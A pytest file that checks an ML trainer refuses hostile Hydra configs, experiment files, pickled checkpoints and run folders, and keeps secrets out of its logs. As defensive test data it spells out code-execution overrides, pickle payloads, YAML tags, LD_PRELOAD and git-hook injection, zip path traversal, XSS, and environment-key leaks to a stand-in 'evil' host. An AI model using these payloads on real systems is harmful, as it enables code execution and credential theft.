"""A config, an experiment file, a checkpoint or a run folder from a stranger runs nothing, and secrets reach no file."""

from __future__ import annotations

import io
import json
import pickle
import shutil
import sys
import zipfile

import pytest
import torch
import yaml
from omegaconf import OmegaConf

from tests.conftest import write_rows
from trainer import __main__, checkpoint, config, evaluate, export, generate, report
from trainer.checkpoint import CheckpointError, path_of
from trainer.config import ConfigError

COMMON = ("experiment=smoke", "task.path=rows.jsonl", "max_steps=1")


@pytest.fixture
def canary(tmp_path, monkeypatch):
    """The file that every payload would make."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("WANDB_API_KEY", "c0ffee" * 6 + "cafe")
    path = tmp_path / "canary"
    yield path
    assert not path.exists(), "the payload ran"


@pytest.fixture
def refused(canary, monkeypatch, capsys):
    """Runs the program in this process; returns the message with which it refused."""

    def ran(*arguments):
        monkeypatch.setattr(sys, "argv", ["trainer", *arguments])
        monkeypatch.setenv("HYDRA_FULL_ERROR", "0")
        monkeypatch.setattr("trainer.run.run", lambda cfg: pytest.fail(f"not refused: {arguments}"))
        with pytest.raises(SystemExit) as end:
            __main__.main()
        said = capsys.readouterr().err
        assert end.value.code == 2, said
        assert "Traceback" not in said
        assert not canary.exists()
        assert not list(canary.parent.rglob("run.yaml"))
        return said

    return ran


ONLY = "Only what the files of conf/ name may be made"
THERE = "and only that may stand there"
NOWHERE = "nothing may be made there"
RESOLVER = "uses the resolver"
VARIABLE = "reads the environment variable"

# Command lines: (overrides, what is said). CANARY stands for the canary's path.
HOSTILE = {
    # other targets, at every kind of place
    "os.system": (["adapter._target_=os.system", "++adapter.command='touch CANARY'"], ONLY),
    "a subprocess": (["task._target_=subprocess.run", "++task.args=[touch,CANARY]"], ONLY),
    "torch.load": (["adapter._target_=torch.load", "++adapter.f=x.pt", "++adapter.weights_only=false"], ONLY),
    "numpy.load": (["adapter._target_=numpy.load", "++adapter.allow_pickle=true"], ONLY),
    "pandas": (["adapter._target_=pandas.read_pickle", "++adapter.filepath_or_buffer=x"], ONLY),
    "torch's own shell": (["adapter._target_=torch.utils.collect_env.run", "++adapter.command='touch CANARY'"], ONLY),
    "asyncio's shell": (["adapter._target_=asyncio.create_subprocess_shell", "++adapter.cmd='touch CANARY'"], ONLY),
    "torch.hub": (["base._target_=torch.hub.load", "++base.source=local"], ONLY),
    "open": (["callbacks.evaluation._target_=builtins.open", "++callbacks.evaluation.file=CANARY"], ONLY),
    "write_text": (["+callbacks.own={_target_: pathlib.Path.write_text}"], ONLY),
    "copyfile": (["logger=wandb", "+logger.own={_target_: shutil.copyfile, src: rows.jsonl, dst: CANARY}"], ONLY),
    "a process": (["objective._target_=multiprocessing.Process"], ONLY),
    "makedirs": (["optimizer._target_=os.makedirs", "++optimizer.name=CANARY"], ONLY),
    "getenv": (["schedule._target_=os.getenv", "++schedule.key=WANDB_API_KEY"], ONLY),
    "an alias of torch.load": (["schedule._target_=torch.nn.modules.module.torch.load"], ONLY),
    "an alias of what is allowed": (["optimizer._target_=torch.optim.adamw.AdamW"], ONLY),
    "a module of ours": (["adapter._target_=trainer.checkpoint.load"], ONLY),
    "a new node": (["+new.node={_target_: os.makedirs, name: CANARY}"], ONLY),
    "deep in a new node": (["+new={a: [{b: {_target_: os.makedirs, name: CANARY}}]}"], ONLY),
    "within a list": (["task.path=[{_target_: os.makedirs, name: CANARY}]"], ONLY),
    "within a mapping": (["++task.columns={a: {_target_: os.makedirs, name: CANARY}}"], ONLY),
    "within a method's fields": (["adapter=dora", "++adapter.eva_config={_target_: os.makedirs, name: CANARY}"], ONLY),
    "another case": (["optimizer._target_=Torch.optim.AdamW"], ONLY),
    "a space before": (["'optimizer._target_=\\ torch.optim.AdamW'"], None),
    "a quoted space": (["optimizer._target_=' torch.optim.AdamW'"], ONLY),
    "a trailing dot": (["optimizer._target_=torch.optim.AdamW."], ONLY),
    "a list for a target": (["optimizer._target_=[os.makedirs]"], ONLY),
    "a mapping for a target": (["++optimizer._target_={_target_: os.makedirs}"], ONLY),
    "null for a target": (["optimizer._target_=null"], ONLY),
    "an interpolated target": (["name=os.makedirs", "adapter._target_=${name}"], ONLY),
    "an assembled target": (["name=makedirs", "adapter._target_=os.${name}"], ONLY),
    # shipped targets elsewhere
    "a base for an adapter": (["adapter._target_=trainer.base.tiny"], THERE),
    "a base within a mapping": (["++task.columns={a: {_target_: trainer.base.tiny}}"], NOWHERE),
    "a base within a list": (["task=classification", "task.labels=[{_target_: trainer.base.tiny}]"], NOWHERE),
    "a base in a method's fields": (["adapter=dora", "++adapter.eva_config={_target_: trainer.base.tiny}"], NOWHERE),
    "a base for a number": (["++seed={_target_: trainer.base.tiny}"], NOWHERE),
    "a base for Hydra": (["+hydra.callbacks.a={_target_: trainer.base.tiny}"], ONLY),
    # how things are made
    "positional arguments": (["++optimizer._args_=[CANARY]"], "positional arguments are not taken from a config"),
    "not partial": (["objective._partial_=false"], THERE),
    "partial": (["++adapter._partial_=true"], THERE),
    "not recursive": (["++adapter._recursive_=false"], THERE),
    "other containers": (["++adapter._convert_=object"], THERE),
    "no target": (["~adapter._target_"], THERE),
    # Hydra's own node
    "a Hydra callback": (["+hydra.callbacks.a={_target_: os.makedirs, name: CANARY}"], ONLY),
    "a launcher": (["hydra.launcher._target_=os.makedirs", "+hydra.launcher.name=CANARY"], ONLY),
    "a sweeper": (["hydra.sweeper._target_=os.makedirs", "--multirun"], ONLY),
    "a handler": (["hydra.job_logging.handlers.file.class=logging.handlers.SocketHandler"], "Log handlers are one of"),
    "a formatter's class": (["+hydra.job_logging.formatters.dated.class=os.makedirs"], "Log handlers are one of"),
    "an object for a handler": (["+hydra.job_logging.handlers.console.stream=ext://os.environ"], "Only ext://sys.stdout"),
    "a part of the log's config": (["+hydra.job_logging.handlers.console.stream=cfg://handlers.file"], "Only ext://sys.stdout"),
    "the log in another place": (["hydra.job_logging.handlers.file.filename=CANARY"], "but the log is always"),
    "the log under another name": (["hydra.job.name=../canary"], "hydra.job.name is '../canary'"),
    "Hydra's log in a file": (
        ["+hydra.hydra_logging.handlers.a={class: logging.FileHandler, filename: CANARY}"], "but the log is always",
    ),
    "Hydra's files elsewhere": (["hydra.output_subdir=../canary"], "hydra.output_subdir is '../canary'"),
    "what other programs run": (["+hydra.job.env_set.LD_PRELOAD=CANARY"], "the environment is not set from a config"),
    "copied secrets": (["hydra.job.env_copy=[WANDB_API_KEY]"], "the environment is not set from a config"),
    "forged overrides": (["hydra.overrides.task=['a=1']"], "hydra.overrides is what the command line says"),
    "an imported search path": (["hydra.searchpath=[pkg://stranger]"], "only folders can be searched"),
    "an interpolated search path": (["hydra.searchpath=['${oc.env:HOME}']"], "only folders can be searched"),
    # resolvers
    "a secret": (["logger=wandb", "logger.wandb.notes=${oc.env:WANDB_API_KEY}"], VARIABLE),
    "a secret as a default": (["logger=wandb", "logger.wandb.notes='${oc.env:HOME,${oc.env:WANDB_API_KEY}}'"], VARIABLE),
    "a secret by another name": (["logger=wandb", "logger.wandb.notes='${oc.env:${oc.select:name}}'", "name=HF_TOKEN"], VARIABLE),
    "a resolver by another name": (["name=env", "logger=wandb", "logger.wandb.notes='${oc.${name}:WANDB_API_KEY}'"], RESOLVER),
    "a quoted secret": (["logger=wandb", "logger.wandb.notes='${oc.env:\"WANDB_API_KEY\"}'"], VARIABLE),
    "a spaced secret": (["logger=wandb", "logger.wandb.notes='${ oc.env : WANDB_API_KEY }'"], VARIABLE),
    "a secret within text": (["logger=wandb", "logger.wandb.notes='a ${name} ${oc.env:HF_TOKEN} b'"], VARIABLE),
    "a secret in a folder's name": (["hydra.run.dir='${oc.env:WANDB_API_KEY}'"], VARIABLE),
    "a secret in a deleted key's value": (["~runs='${oc.env:WANDB_API_KEY}'"], None),
    "oc.create": (["++task.columns='${oc.create:{_target_: os.makedirs, name: CANARY}}'"], RESOLVER),
    "oc.decode": (["++task.columns='${oc.decode:\"{_target_: os.makedirs}\"}'"], RESOLVER),
    "oc.dict": (["++task.columns='${oc.dict.values:base}'"], RESOLVER),
    "a resolver there is not": (["runs='${nothing:1}'"], RESOLVER),
    "half an interpolation": (["++task.columns={a: '${oc.env'}"], "no viable alternative at input '${oc.env'"),
    # paths
    "a file outside conf": (["adapter=../../../stranger"], None),
    "a name that is a path": (["name=../canary"], "name is '../canary'"),
    "a name from the root": (["name=CANARY"], "A run's name has"),
    "no folder": (["resume="], "that folder holds no run"),
    # flags
    "another conf": (["--config-path=pkg://stranger"], "--config-dir=FOLDER"),
    "another conf, in short": (["-cp", "pkg://stranger"], "--config-dir=FOLDER"),
    "another root": (["--config-name=stranger"], "--config-dir=FOLDER"),
    "a rerun": (["--experimental-rerun=rerun.pickle"], "loads a pickle"),
    "a rerun, abbreviated": (["--exp", "rerun.pickle"], "loads a pickle"),
}  # fmt: skip


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_command_line_runs_nothing(refused, canary, case):
    (canary.parent / "stranger").mkdir()
    (canary.parent / "stranger" / "__init__.py").write_text(f"open({str(canary)!r}, 'w')")
    (canary.parent / "stranger.yaml").write_text("_target_: os.makedirs\nname: canary\n")
    (canary.parent / "rerun.pickle").write_bytes(pickle.dumps(Payload(canary)))
    overrides, said = HOSTILE[case]
    flags = [word for word in overrides if word.startswith("-")]
    words = [word.replace("CANARY", str(canary)) for word in overrides if not word.startswith("-")]
    message = refused(*flags, *([] if flags == ["-cp"] else COMMON), *words)
    assert message.strip()
    assert said is None or said in message
    assert len(message.splitlines()) <= 6 or "Available options" in message


# Experiment files: (entries of the defaults list, the rest, what is said). CANARY stands for the canary's path.
FILES = {
    "a target": ([], "adapter: {_target_: os.makedirs, name: CANARY}", ONLY),
    "a new node": ([], "own: {deep: [{_target_: os.makedirs, name: CANARY}]}", ONLY),
    "positional arguments": ([], "optimizer: {_args_: [CANARY]}", "positional arguments"),
    "an anchor": ([], "own: &a {_target_: os.makedirs, name: CANARY}\ntask: {columns: *a}", ONLY),
    "a merged anchor": ([], "own: &a {_target_: os.makedirs}\ntask: {columns: {<<: *a, name: CANARY}}", ONLY),
    "a target of bytes": ([], "adapter: {_target_: !!binary b3MubWFrZWRpcnM=}", ONLY),
    "half an interpolation": ([], "task: {system: '${oc.env'}", "no viable alternative at input '${oc.env'"),
    "a tag that calls": ([], "own: !!python/object/apply:os.makedirs [CANARY]", "could not determine a constructor"),
    "a tag that names": ([], "own: !!python/name:os.makedirs ''", "could not determine a constructor"),
    "a tag that makes": ([], "own: !!python/object/new:os.makedirs [CANARY]", "could not determine a constructor"),
    "a Hydra callback": ([], "hydra: {callbacks: {a: {_target_: os.makedirs, name: CANARY}}}", ONLY),
    "a called handler": ([], "hydra: {job_logging: {handlers: {a: {(): os.makedirs, name: CANARY}}}}", "Log handlers are one of"),
    "a called filter": ([], "hydra: {job_logging: {filters: {a: {(): os.makedirs, name: CANARY}}}}", "Log handlers are one of"),
    "a handler's attribute": (
        [], "hydra: {job_logging: {handlers: {file: {delay: true, '.': {baseFilename: CANARY}}}}}", "Log handlers are one of",
    ),
    "a log that is a shell's file": (
        [], "hydra: {job_logging: {formatters: {dated: {format: 'ls # %(message)s'}}, handlers: {file: {filename: CANARY}}}}",
        "but the log is always",
    ),
    "what git runs": (
        [], "hydra: {job: {env_set: {GIT_CONFIG_COUNT: '1', GIT_CONFIG_KEY_0: core.fsmonitor, GIT_CONFIG_VALUE_0: touch CANARY}}}",
        "the environment is not set from a config",
    ),
    "where a key is sent": ([], "hydra: {job: {env_set: {WANDB_BASE_URL: 'http://evil'}}}", "the environment is not set from a config"),
    "a search path": ([], "hydra: {searchpath: ['pkg://stranger']}", "hydra.searchpath is only supported from the primary config"),
    "forged overrides": ([], "hydra: {overrides: {task: ['base.trust_remote_code=true']}}", "hydra.overrides is what the command line"),
    "a forged choice": ([], "hydra: {runtime: {choices: {adapter: full}}}\nadapter: {_target_: os.makedirs}", ONLY),
    "a model's own code": (
        ["override /base: hf"], "base: {path: a/b, trust_remote_code: true}", "is taken from the command line only",
    ),
    "a file outside conf": (["override /adapter: ../harmless"], "", "adapter=../harmless: conf/adapter has adalora,"),
    "a method of its own": (["override /adapter: stranger"], "", ONLY),
    "a harmless method of its own": (["override /adapter: harmless"], "", "adapter=harmless: conf/adapter has adalora,"),
    "a launcher of its own": (["override /hydra/launcher: stranger"], "", ONLY),
    "a base for Hydra": (["/base@hydra.callbacks.a: tiny"], "", ONLY),
    "a base within a task": (["/base@task.columns.a: tiny"], "", NOWHERE),
    "an interpolated secret": ([], "task: {system: '${oc.env:WANDB_API_KEY}'}", VARIABLE),
    "a hidden sweep": ([], "hydra: {mode: MULTIRUN, sweeper: {params: {adapter._target_: os.makedirs}}}", ONLY),
}  # fmt: skip


@pytest.mark.parametrize("case", FILES)
def test_a_strangers_experiment_runs_nothing(refused, canary, case):
    defaults, body, said = FILES[case]
    folder = canary.parent / "from"
    for name in ("experiment", "adapter", "hydra/launcher"):
        (folder / name).mkdir(parents=True)
    if "override /base: hf" not in defaults:
        defaults = [*defaults, "override /base: tiny"]
    text = "\n".join(["# @package _global_", "defaults:", *(f"  - {entry}" for entry in defaults), "max_length: 256", body])
    (folder / "experiment" / "evil.yaml").write_text(text.replace("CANARY", str(canary)))
    for name in ("adapter/stranger", "hydra/launcher/stranger", "stranger"):
        (folder / f"{name}.yaml").write_text(f"_target_: os.makedirs\nname: {canary}\n")
    for name in ("adapter/harmless", "harmless"):
        (folder / f"{name}.yaml").write_text("_target_: adapters.lora.LoRAAdapter\nrank: 1\n")
    message = refused("--config-dir=from", "experiment=evil", "task.path=rows.jsonl", "max_steps=1")
    assert said in message


def test_a_file_may_ask_for_little_and_gets_it(compose, canary):
    """What a refusal is worth is seen by what is not refused."""
    assert compose(*COMMON, "base=hf", "base.path=a/b", "base.trust_remote_code=true").base.trust_remote_code is True
    cfg = compose(*COMMON, "hydra.job_logging.handlers.console.show_time=true", "hydra.run.dir=elsewhere", "hydra.verbose=true")
    assert cfg.hydra.run.dir == "elsewhere"


class Payload:
    """Unpickled, it makes the canary."""

    def __init__(self, canary):
        self.canary = str(canary)

    def __reduce__(self):
        return open, (self.canary, "w")


@pytest.fixture(scope="module")
def kept(tmp_path_factory):
    return tmp_path_factory.mktemp("kept") / "run"


@pytest.fixture
def folder(train, chats, kept, tmp_path):
    """Changes a run folder's run.yaml at the given places, and returns it."""
    if not kept.exists():
        shutil.copytree(train(f"task.path={chats}", "max_steps=1", "callbacks.evaluation=null"), kept)
    path = shutil.copytree(kept, tmp_path / "strange")

    def changed(**parts):
        content = yaml.safe_load((path / "run.yaml").read_text())
        for place, value in parts.items():
            OmegaConf.update(wrapped := OmegaConf.create(content), place.replace("__", "."), value, merge=False, force_add=True)
            content = OmegaConf.to_container(wrapped)
        (path / "run.yaml").write_text(yaml.safe_dump(content))
        return path

    return changed


VERBS = {
    "generate": lambda place: generate.main([f"run={place}", "prompt=x", "max_new_tokens=1"]),
    "evaluate": lambda place: evaluate.main([f"run={place}"]),
    "export": lambda place: export.main([f"run={place}", "to=merged"]),
}
MAKES = {"_target_": "os.makedirs", "name": "canary"}
FOLDERS = {
    "a target": ({"config__base": MAKES}, ONLY),
    "a target in a mapping": ({"config__task__columns": {"a": MAKES}}, ONLY),
    "a shipped target in a mapping": ({"config__task__columns": {"a": {"_target_": "trainer.base.tiny"}}}, NOWHERE),
    "a target and its own schema": (
        {"config__base": MAKES, "identity__choices__base": "../../../../../../../../CANARY/../evil"}, ONLY,
    ),
    "its own schema": ({"identity__choices__base": "../../../../../../../../CANARY/../evil"}, "conf/base has hf,"),
    "an unknown choice": ({"identity__choices__adapter": "evil"}, "conf/adapter has adalora,"),
    "choices of another kind": ({"identity__choices": "evil"}, "is not what a run writes"),
    "no identity": ({"identity": None}, "is not what a run writes"),
    "a config of another kind": ({"config": ["evil"]}, "is not what a run writes"),
    "an interpolated secret": ({"config__task__path": "https://evil/${oc.env:WANDB_API_KEY}"}, VARIABLE),
    "a call": ({"config__task__columns": {"a": "${oc.create:{_target_: os.makedirs}}"}}, RESOLVER),
    "a name that is a path": ({"config__name": "../../canary"}, "name is '../../canary'"),
    "partial": ({"config__adapter___partial_": True}, THERE),
}  # fmt: skip


@pytest.mark.parametrize("case", FOLDERS)
def test_a_strangers_run_folder_makes_nothing(folder, canary, capsys, case):
    parts, said = FOLDERS[case]
    place = folder(**json.loads(json.dumps(parts).replace("CANARY", str(canary.parent))))
    (canary.parent.parent / "evil.yaml").write_text("_target_: os.makedirs\nname: canary  # str: canary\n")
    for verb in VERBS.values():
        assert verb(place) == 2
        assert said in capsys.readouterr().err
    assert not (place / "merged").exists()


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("!!python/object/apply:os.makedirs [canary]\n", "could not determine a constructor"),
        ("a: !!python/name:os.makedirs ''\n", "could not determine a constructor"),
        ("- 1\n", "is not what a run writes"),
        ("id: x\n", "is not what a run writes"),
        ("a: [\n", "cannot be read"),
    ],
)
def test_a_run_yaml_that_is_none(canary, capsys, text, said):
    (canary.parent / "run.yaml").write_text(text)
    for verb in VERBS.values():
        assert verb(canary.parent) == 2
        assert said in capsys.readouterr().err


def hostile_files(canary):
    """Pickles with code, in each layout that torch.load reads."""
    plain = io.BytesIO()
    torch.save({"adapter": Payload(canary)}, plain)
    yield "zip", plain.getvalue()
    old = io.BytesIO()
    torch.save({"adapter": Payload(canary)}, old, _use_new_zipfile_serialization=False)
    yield "legacy", old.getvalue()
    yield "bare", pickle.dumps(Payload(canary), protocol=2)
    yield "nothing", b""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr("a/../../canary", "x")
        file.writestr("a/data.pkl", pickle.dumps({}))
    yield "climbing", archive.getvalue()


@pytest.mark.parametrize("layout", ["zip", "legacy", "bare", "nothing", "climbing"])
def test_a_checkpoint_with_code_is_refused(tmp_path, canary, layout):
    path = path_of(tmp_path, 1)
    path.write_bytes(dict(hostile_files(canary))[layout])
    manifest = {"step": 1, "bytes": path.stat().st_size, "sha256": checkpoint.sha256(path)}
    path.with_suffix(".json").write_text(json.dumps(manifest))
    assert checkpoint.newest(tmp_path) == path  # it is as it was written
    with pytest.raises(CheckpointError, match="cannot be used: it is no checkpoint of tensors and plain data"):
        checkpoint.load(path)


def test_a_strangers_checkpoint_in_a_good_folder(folder, canary, capsys):
    place = folder()
    path = path_of(place / "checkpoints", 1)
    path.write_bytes(dict(hostile_files(canary))["zip"])
    manifest = {"step": 1, "bytes": path.stat().st_size, "sha256": checkpoint.sha256(path)}
    path.with_suffix(".json").write_text(json.dumps(manifest))
    for verb in VERBS.values():
        assert verb(place) == 1
        assert "it is no checkpoint" in capsys.readouterr().err


@pytest.mark.parametrize("which", ["../../evil", "/evil", "1/../2", "-1", "1.0", "²", "best/../x", "0x1"])
def test_a_checkpoints_name_is_no_path(folder, canary, capsys, which):
    assert VERBS["generate"](f"{folder()}@{which}") == 1
    assert "no checkpoint" in capsys.readouterr().err


def test_a_page_from_a_strangers_folder_runs_no_script(folder, canary):
    script = "<script>alert(1)</script>"
    start = {"command": script, "time": script, "host": script, "git": script, "versions": {script: script}}
    place = folder(name=script, config__task__system=script, starts=[start])
    page = report.write(place).read_text()
    assert "<script" not in page
    assert page.count("&lt;script&gt;") >= 5


SECRETS = {
    "WANDB_API_KEY": "0123456789abcdef0123456789abcdef01234567",
    "HF_TOKEN": "hf_canaryCANARYcanaryCANARYcanary",
    "AWS_SECRET_ACCESS_KEY": "aws/canary+canary/canary+canary/canary+1",
    "SOME_PASSWORD": "correct horse battery staple",
}


def test_no_byte_of_a_run_holds_a_secret(program, tmp_path):
    write_rows(tmp_path / "rows.jsonl", [{"prompt": f"{i}", "completion": "x"} for i in range(20)])
    visible = "a note that is meant to be seen"
    done = program(
        *COMMON, "logger=[wandb,tensorboard]", "logger.wandb.mode=offline", f"logger.wandb.notes='{visible}'", "max_steps=2",
        env=SECRETS | {"HOME": str(tmp_path)},
    )  # fmt: skip
    assert done.returncode == 0, done.stdout + done.stderr
    run = tmp_path / "runs" / "smoke"
    written = {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file() and path.name != "rows.jsonl"}
    (upload,) = run.glob("wandb/offline-run-*/*.wandb")
    assert visible.encode() in written[upload]  # so that what W&B would upload can be searched
    assert {"run.yaml", "trainer.log", "metrics.jsonl", "report.html"} <= {path.name for path in written}
    for secret in [*SECRETS.values(), "canaryCANARY", SECRETS["WANDB_API_KEY"][:20]]:
        assert [path for path, content in written.items() if secret.encode() in content] == []
        assert secret not in done.stdout + done.stderr


@pytest.mark.parametrize(
    "override",
    [
        f"logger.wandb.notes={SECRETS['HF_TOKEN']}",
        f"logger.wandb.project={SECRETS['WANDB_API_KEY']}",
        "logger.wandb.tags=[a,sk-abcdefghijklmnopqrstuvwx]",
        "task.system='my key is ghp_abcdefghijklmnopqrstuvwxyz012345'",
        "+logger.wandb.api_key=quiet",
        "+task.token=quiet",
        "+base.hf_token=quiet",
        "+task.db_password=quiet",
        "+task.secret_key=quiet",
        "+task.aws_secret_access_key=quiet",
        "++task.columns={credentials: quiet}",
    ],
)
def test_what_looks_like_a_secret_is_refused_before_anything_is_written(refused, canary, override):
    message = refused(*COMMON, "logger=wandb", override)
    assert "looks like a secret. Configs are logged: export it" in message
    assert not any(part in message for part in (*SECRETS.values(), "quiet", "sk-abc", "ghp_"))
    assert [path.name for path in canary.parent.iterdir()] == []


def test_what_is_no_secret_is_taken(compose):
    assert compose(*COMMON, "max_tokens=10", "task=bfcl", "~task.path").max_tokens == 10


def test_redaction(monkeypatch):
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("EMPTY_TOKEN", "")
    monkeypatch.setenv("SHORT_TOKEN", "ab")
    text = f"train about={' '.join(SECRETS.values())} key=sk-abcdefghijklmnopqrstuvwx ab {'0' * 64}"
    redacted = config.redact(text)
    assert redacted == f"train about={' '.join(['[redacted]'] * 4)} key=[redacted] ab {'0' * 64}"
    assert config.redact("nothing here") == "nothing here"


def test_the_targets_are_those_of_conf():
    targets = config.shipped_targets()
    assert {
        "torch.optim.AdamW",
        "adapters.lora.LoRAAdapter",
        "trainer.base.tiny",
        "trainer.callbacks.tracking.wandb_logger",
    } <= targets
    assert all(
        name.split(".")[0] in ("adapters", "tasks", "trainer", "torch", "bitsandbytes", "schedulefree") for name in targets
    )
    assert len(targets) < 60


def test_a_check_without_hydras_node_refuses_as_well():
    """As for a launcher's worker, and for a run folder."""
    with pytest.raises(ConfigError, match="Only what the files of conf/ name"):
        config.check(OmegaConf.create({"adapter": {"_target_": "os.system"}}), {})
